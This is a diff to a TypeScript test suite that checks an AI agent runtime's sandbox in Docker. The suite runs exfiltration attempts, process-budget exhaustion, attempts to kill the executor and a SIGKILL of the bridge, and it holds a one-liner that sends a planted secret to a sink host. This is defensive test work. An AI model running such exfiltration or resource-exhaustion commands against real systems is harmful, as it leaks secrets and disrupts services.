@@ -29,7 +29,12 @@ import { ensureTestBase } from "../../scripts/docker/test-base.mjs";
 import { type Frame, TestClient } from "../support/bridge.ts";
 import { buildImage, docker, execIn, imageTag, repoRoot } from "./support/docker.ts";
 
-const IMAGE = imageTag("chat-ui-agent-runtime:sandbox-test");
+/**
+ * SANDBOX_TEST_PRODUCT_IMAGE names an already built product image to test instead of this checkout's (to show
+ * the test failing on an earlier build: its report has no egress protection, so that check is left out).
+ */
+const BASELINE = process.env.SANDBOX_TEST_PRODUCT_IMAGE;
+const IMAGE = BASELINE ?? imageTag("chat-ui-agent-runtime:sandbox-test");
 const PROBES = imageTag("chat-ui-agent-runtime:sandbox-probes");
 const FIXTURES = path.join(import.meta.dirname, "fixtures");
 /** Ports inside each container (its own network namespace). */
@@ -52,7 +57,9 @@ before(
   async () => {
     await ensureEngine();
     const base = await ensureTestBase(docker);
-    const product = await buildImage(repoRoot, IMAGE, { buildargs: { NODE_IMAGE: base } });
+    const product = BASELINE
+      ? { ok: true, error: "", log: "" }
+      : await buildImage(repoRoot, IMAGE, { buildargs: { NODE_IMAGE: base } });
     if (!product.ok)
       throw new Error(
         `the image failed to build: ${product.error}\n${product.log.split("\n").slice(-40).join("\n")}`,
@@ -263,7 +270,7 @@ async function start(t: TestContext, mode: Mode): Promise<Running> {
       `ip -6 addr add ${TARGET.v6}/64 dev veth0 nodad`,
       `echo 'nameserver ${TARGET.v4}' > /etc/resolv.conf`,
       `printf '%s\\n' '${secret}' > /workspace/secret.txt && chmod 644 /workspace/secret.txt`,
-      `nohup tcpdump -i any -n -U -w /run/egress.pcap 'host ${TARGET.v4} or host ${TARGET.v6}' > /run/tcpdump.log 2>&1 &`,
+      `nohup tcpdump --immediate-mode -i any -n -U -w /run/egress.pcap 'host ${TARGET.v4} or host ${TARGET.v6}' > /run/tcpdump.log 2>&1 &`,
       `nohup node /opt/sandbox-test/sandbox-infra.mjs '${JSON.stringify(infra)}' > /run/infra.log 2>&1 &`,
       "echo SETUP_DONE",
     ].join("\n"),
@@ -351,153 +358,187 @@ describe("the tools' OS boundary in the image: processes and egress", { timeout:
       const iso = (await r.status()).isolation;
       t.diagnostic(`egress: ${JSON.stringify(iso.protections.egress)}`);
       t.diagnostic(`toolProcesses: ${JSON.stringify(iso.protections.toolProcesses)}`);
-      assert.equal(iso.protections.egress.active, true, iso.protections.egress.detail);
-      assert.equal(iso.protections.egress.guard, "enforcing");
-      assert.equal(iso.protections.egress.filter, "notify");
-      assert.equal(iso.protections.toolProcesses.active, true, iso.protections.toolProcesses.detail);
-      assert.equal(iso.protections.toolProcesses.containerPids, PIDS_LIMIT);
-      assert.equal(iso.protections.toolProcesses.nproc, 300);
-
-      // 1. Everyday loopback work still runs: a local HTTP server and its clients, git over git://.
-      await plant(r, "../../support/fixtures/loopback-clients.mjs", "loopback.mjs");
-      const loop = await r.tool(
-        "BASH mkdir -p /workspace/loop && node /workspace/loopback.mjs /workspace/loop",
-      );
-      const line = loop.text.split("\n").find((l) => l.startsWith("{"));
-      assert.ok(line, loop.text);
-      const results = JSON.parse(line) as Record<string, string>;
-      for (const client of ["fetch", "httpLocalhost", "socket", "curl", "devTcp", "python"])
-        assert.equal(results[client], "pong", `${client}: ${line}`);
-      assert.equal(results.gitSetup, "", line);
-      assert.equal(results.gitClone, "", line);
-      assert.equal(results.gitLog, "first", line);
-
-      // 2. Exfiltration by every route: nothing arrives.
-      await plant(r, "exfil.sh", "exfil.sh");
-      const exfil = await r.tool("BASH bash /workspace/exfil.sh", 300_000);
-      assert.match(exfil.text, /EXFIL_DONE/, exfil.text);
-      for (const route of exfil.text.split("\n").filter((l) => l.startsWith("ROUTE:"))) t.diagnostic(route);
-      const counts = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
-        connections: number;
-        datagrams: number;
-        bytes: number;
-        secretSeen: boolean;
-        by: Record<string, number>;
-      };
-      const packets = (await r.root("tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim();
-      assert.deepEqual(
-        {
-          connections: counts.connections,
-          datagrams: counts.datagrams,
-          secretSeen: counts.secretSeen,
-          packets,
-        },
-        { connections: 0, datagrams: 0, secretSeen: false, packets: "0" },
-        `arrived: ${JSON.stringify(counts.by)}\n${exfil.text}`,
-      );
-      assert.match(exfil.text, /ROUTE:race:tries=\d+:reached=0/);
-      // Each refused connect was reported to the bridge with its pid, call and destination.
-      const refused = (await r.logs())
-        .split("\n")
-        .filter((l) => l.includes("tool egress refused") && l.includes(TARGET.v4));
-      assert.ok(refused.length > 0, "the bridge logged the refused connects");
-      assert.match(refused[0] ?? "", /"call":"[^"]+"/);
-      // The sink and the capture do count (the test can fail): root, outside the tools' boundary, reaches them.
-      await r.root(
-        `node -e "const s=require('net').connect(80,'${TARGET.v4}',()=>s.end('${r.secret}'))" ; sleep 0.5`,
-      );
-      const after = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
-        connections: number;
-        secretSeen: boolean;
-      };
-      assert.equal(after.connections, 1);
-      assert.equal(after.secretSeen, true);
-      assert.notEqual((await r.root("tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim(), "0");
-
-      // 3. A detached process (own session, empty environment, double fork) ends with its call.
-      const left = await r.tool(`BASH ${detach("left")}; sleep 0.3; echo started`);
-      assert.match(left.text, /started/);
-      await until(
-        async () => (await processes(r, "sleep-left")).length === 0,
-        5_000,
-        "the call's leftovers to end",
-      );
-
-      // 4. The tools fill their budget and try to kill their executor; the others keep their reserve.
-      await r.as(
-        mode.user === "1000" ? "1000" : "root",
-        `nohup python3 /opt/sandbox-test/sbx-standin.py ${PORTS.sbx} > /tmp/sbx-standin.log 2>&1 &`,
-      );
-      await until(
-        async () => (await r.root("cat /tmp/sbx-standin.log")).includes("SBX_READY"),
-        10_000,
-        "the sbx stand-in",
-      );
-      assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
-      const eventsBefore = await r.root(
-        "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
-      );
-      await plant(r, "fill-budget.py", "fill.py");
-      const filling = await r.startTool("BASH python3 /workspace/fill.py");
-      await until(
-        async () => (await r.root("cat /workspace/budget-filled 2>/dev/null")).trim() !== "",
-        120_000,
-        "the tools to fill their budget",
-      );
-      // sbx-server's stand-in still starts a thread for a new connection; the bridge still answers.
-      assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
-      assert.equal((await r.status()).isolation.protections.executorRouting.active, true);
-      const eventsFull = await r.root(
-        "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
-      );
-      await r.root("touch /workspace/release");
-      const filled = await filling();
-      t.diagnostic(
-        filled.text
-          .split("\n")
-          .filter((l) => /HELD|KILL_EXECUTOR/.test(l))
-          .join("; "),
-      );
-      assert.match(filled.text, /KILL_EXECUTOR:blocked/, filled.text);
-      assert.doesNotMatch(filled.text, /KILL_EXECUTOR:SUCCEEDED/);
-      const held = Number(/HELD (\d+)/.exec(filled.text)?.[1]);
-      assert.ok(held > 50 && held < 300, filled.text);
-      // The container's limit was never reached: the cap stopped the tools first.
-      assert.equal(eventsFull.trim(), eventsBefore.trim(), `pids.events: ${eventsBefore} -> ${eventsFull}`);
-      // Pi and the executor carry on.
-      assert.match((await r.tool("BASH echo still-here")).text, /still-here/);
-      assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
-
-      // 5. The bridge dies (SIGKILL) while a call runs with a detached process: no tool process survives it.
-      const running = await r.startTool(`BASH ${detach("orphan")}; exec -a sleep-call /bin/sleep 1000`);
-      void running(600_000).catch(() => {});
-      await until(
-        async () => (await processes(r, "sleep-orphan")).length === 1,
-        20_000,
-        "the detached process",
-      );
-      const bridgePid = (
-        await r.root(
-          `for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -qE '^[^ ]*node /opt/chat-ui-agent/bridge.mjs'; then echo \${p#/proc/}; break; fi; done`,
-        )
-      ).trim();
-      assert.ok(Number(bridgePid) > 1, bridgePid);
-      await r.root(`kill -9 ${bridgePid}`);
-      await until(
-        async () =>
-          (await processes(r, "sleep-orphan")).length === 0 &&
-          (await processes(r, "sleep-call")).length === 0 &&
-          (await processes(r, "tool-executor.mjs")).length === 0,
-        10_000,
-        "every tool process to end with the bridge",
-      );
-      if (mode.user !== "1000") {
-        // In root modes the tools' uid is theirs alone: nothing of it is left.
-        const agentProcesses = await r.root(
-          `for p in /proc/[0-9]*; do [ "$(awk '/^Uid:/{print $2}' $p/status 2>/dev/null)" = ${mode.tools.uid} ] && echo "\${p#/proc/} $(tr '\\0' ' ' < $p/cmdline)"; done; true`,
-        );
-        assert.equal(agentProcesses.trim(), "", agentProcesses);
-      }
+      if (!BASELINE) checkReport(iso);
+      await checkBoundary(t, r, mode);
     });
   }
 });
+
+function checkReport(iso: Isolation): void {
+  assert.equal(iso.protections.egress.active, true, iso.protections.egress.detail);
+  assert.equal(iso.protections.egress.guard, "enforcing");
+  assert.equal(iso.protections.egress.filter, "notify");
+  assert.equal(iso.protections.toolProcesses.active, true, iso.protections.toolProcesses.detail);
+  assert.equal(iso.protections.toolProcesses.containerPids, PIDS_LIMIT);
+  assert.equal(iso.protections.toolProcesses.nproc, 300);
+}
+
+async function checkBoundary(t: TestContext, r: Running, mode: Mode): Promise<void> {
+  const failed: string[] = [];
+  // Against a baseline build every step runs and each failure is named; otherwise the first one fails the test.
+  const step = async (name: string, run: () => Promise<void>) => {
+    if (!BASELINE) return run();
+    try {
+      await run();
+      t.diagnostic(`${name}: held`);
+    } catch (error) {
+      failed.push(name);
+      t.diagnostic(`${name}: FAILED: ${(error as Error).message.split("\n")[0]?.slice(0, 300)}`);
+    }
+  };
+  // 1. Everyday loopback work still runs: a local HTTP server and its clients, git over git://.
+  await step("loopback", async () => {
+    await plant(r, "../../support/fixtures/loopback-clients.mjs", "loopback.mjs");
+    const loop = await r.tool(
+      "BASH mkdir -p /workspace/loop && node /workspace/loopback.mjs /workspace/loop",
+    );
+    const line = loop.text.split("\n").find((l) => l.startsWith("{"));
+    assert.ok(line, loop.text);
+    const results = JSON.parse(line) as Record<string, string>;
+    for (const client of ["fetch", "httpLocalhost", "socket", "curl", "devTcp", "python"])
+      assert.equal(results[client], "pong", `${client}: ${line}`);
+    assert.equal(results.gitSetup, "", line);
+    assert.equal(results.gitClone, "", line);
+    assert.equal(results.gitLog, "first", line);
+  });
+
+  // 2. Exfiltration by every route: nothing arrives.
+  await step("exfiltration", async () => {
+    await plant(r, "exfil.sh", "exfil.sh");
+    const exfil = await r.tool("BASH bash /workspace/exfil.sh", 300_000);
+    assert.match(exfil.text, /EXFIL_DONE/, exfil.text);
+    for (const route of exfil.text.split("\n").filter((l) => l.startsWith("ROUTE:"))) t.diagnostic(route);
+    const counts = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
+      connections: number;
+      datagrams: number;
+      bytes: number;
+      secretSeen: boolean;
+      by: Record<string, number>;
+    };
+    // Immediate mode writes each packet as it comes; a moment for the last ones.
+    const packets = (await r.root("sleep 1; tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim();
+    assert.deepEqual(
+      {
+        connections: counts.connections,
+        datagrams: counts.datagrams,
+        secretSeen: counts.secretSeen,
+        packets,
+      },
+      { connections: 0, datagrams: 0, secretSeen: false, packets: "0" },
+      `arrived: ${JSON.stringify(counts.by)}\n${exfil.text}`,
+    );
+    assert.match(exfil.text, /ROUTE:race:tries=\d+:reached=0/);
+    // Each refused connect was reported to the bridge with its pid, call and destination.
+    const refused = (await r.logs())
+      .split("\n")
+      .filter((l) => l.includes("tool egress refused") && l.includes(TARGET.v4));
+    assert.ok(refused.length > 0, "the bridge logged the refused connects");
+    assert.match(refused[0] ?? "", /"call":"[^"]+"/);
+    // The sink and the capture do count (the test can fail): root, outside the tools' boundary, reaches them.
+    await r.root(
+      `node -e "const s=require('net').connect(80,'${TARGET.v4}',()=>s.end('${r.secret}'))" ; sleep 0.5`,
+    );
+    const after = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
+      connections: number;
+      secretSeen: boolean;
+    };
+    assert.equal(after.connections, 1);
+    assert.equal(after.secretSeen, true);
+    assert.notEqual(
+      (await r.root("sleep 1; tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim(),
+      "0",
+    );
+  });
+
+  // 3. A detached process (own session, empty environment, double fork) ends with its call.
+  await step("a detached process and its call", async () => {
+    const left = await r.tool(`BASH ${detach("left")}; sleep 0.3; echo started`);
+    assert.match(left.text, /started/);
+    await until(
+      async () => (await processes(r, "sleep-left")).length === 0,
+      5_000,
+      "the call's leftovers to end",
+    );
+  });
+
+  // 4. The tools fill their budget and try to kill their executor; the others keep their reserve.
+  await step("the budget and the executor", async () => {
+    await r.as(
+      mode.user === "1000" ? "1000" : "root",
+      `nohup python3 /opt/sandbox-test/sbx-standin.py ${PORTS.sbx} > /tmp/sbx-standin.log 2>&1 &`,
+    );
+    await until(
+      async () => (await r.root("cat /tmp/sbx-standin.log")).includes("SBX_READY"),
+      10_000,
+      "the sbx stand-in",
+    );
+    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
+    const eventsBefore = await r.root(
+      "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
+    );
+    await plant(r, "fill-budget.py", "fill.py");
+    const filling = await r.startTool("BASH python3 /workspace/fill.py");
+    await until(
+      async () => (await r.root("cat /workspace/budget-filled 2>/dev/null")).trim() !== "",
+      120_000,
+      "the tools to fill their budget",
+    );
+    // sbx-server's stand-in still starts a thread for a new connection; the bridge still answers.
+    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
+    assert.equal((await r.status()).isolation.protections.executorRouting.active, true);
+    const eventsFull = await r.root(
+      "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
+    );
+    await r.root("touch /workspace/release");
+    const filled = await filling();
+    t.diagnostic(
+      filled.text
+        .split("\n")
+        .filter((l) => /HELD|KILL_EXECUTOR/.test(l))
+        .join("; "),
+    );
+    assert.match(filled.text, /KILL_EXECUTOR:blocked/, filled.text);
+    assert.doesNotMatch(filled.text, /KILL_EXECUTOR:SUCCEEDED/);
+    const held = Number(/HELD (\d+)/.exec(filled.text)?.[1]);
+    assert.ok(held > 50 && held < 300, filled.text);
+    // The container's limit was never reached: the cap stopped the tools first.
+    assert.equal(eventsFull.trim(), eventsBefore.trim(), `pids.events: ${eventsBefore} -> ${eventsFull}`);
+    // Pi and the executor carry on.
+    assert.match((await r.tool("BASH echo still-here")).text, /still-here/);
+    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
+  });
+
+  // 5. The bridge dies (SIGKILL) while a call runs with a detached process: no tool process survives it.
+  await step("the bridge killed", async () => {
+    const running = await r.startTool(`BASH ${detach("orphan")}; exec -a sleep-call /bin/sleep 1000`);
+    void running(600_000).catch(() => {});
+    await until(
+      async () => (await processes(r, "sleep-orphan")).length === 1,
+      20_000,
+      "the detached process",
+    );
+    const bridgePid = (
+      await r.root(
+        `for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -qE '^[^ ]*node /opt/chat-ui-agent/bridge.mjs'; then echo \${p#/proc/}; break; fi; done`,
+      )
+    ).trim();
+    assert.ok(Number(bridgePid) > 1, bridgePid);
+    await r.root(`kill -9 ${bridgePid}`);
+    await until(
+      async () =>
+        (await processes(r, "sleep-orphan")).length === 0 &&
+        (await processes(r, "sleep-call")).length === 0 &&
+        (await processes(r, "tool-executor.mjs")).length === 0,
+      10_000,
+      "every tool process to end with the bridge",
+    );
+    if (mode.user !== "1000") {
+      // In root modes the tools' uid is theirs alone: nothing of it is left.
+      const agentProcesses = await r.root(
+        `for p in /proc/[0-9]*; do [ "$(awk '/^Uid:/{print $2}' $p/status 2>/dev/null)" = ${mode.tools.uid} ] && echo "\${p#/proc/} $(tr '\\0' ' ' < $p/cmdline)"; done; true`,
+      );
+      assert.equal(agentProcesses.trim(), "", agentProcesses);
+    }
+  });
+  assert.deepEqual(failed, [], `failed: ${failed.join(", ")}`);
+}
